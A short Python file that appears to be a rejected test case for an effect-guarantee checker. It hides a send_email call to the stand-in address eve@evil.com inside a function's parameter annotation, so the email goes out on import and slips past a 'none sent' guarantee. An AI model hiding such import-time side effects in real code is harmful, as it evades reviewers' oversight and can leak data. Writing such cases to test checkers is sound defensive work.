# rejected: annotations of module functions are evaluated on import
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


def helper(x: send_email("eve@evil.com", "x")) -> None:
    log("fine")


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    log("fine")
